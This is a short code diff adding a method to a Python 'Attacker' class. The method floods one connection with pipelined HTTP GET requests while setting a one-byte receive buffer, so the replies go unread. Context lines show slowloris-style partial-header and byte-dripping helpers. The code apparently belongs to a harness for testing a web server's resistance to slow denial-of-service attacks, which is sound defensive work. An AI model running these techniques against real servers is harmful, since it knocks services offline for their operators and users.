@@ -52,6 +52,13 @@ class Attacker:
         """Send the beginning of a request's head."""
         return self.send(f"GET / HTTP/1.1\r\nHost: {HOST}:{self.port}\r\nX-More: ".encode())
 
+    def unread_pages(self, path: str = ARTICLE, count: int = 10) -> socket.socket:
+        """Ask for a page many times on one connection, and take nothing of the answers."""
+        opened = self.send(b"")
+        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
+        opened.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOST}:{self.port}\r\n\r\n".encode() * count)
+        return opened
+
     def drip(self) -> None:
         """Send one more byte on every connection, so that none of them is idle."""
         for one in self.sockets:
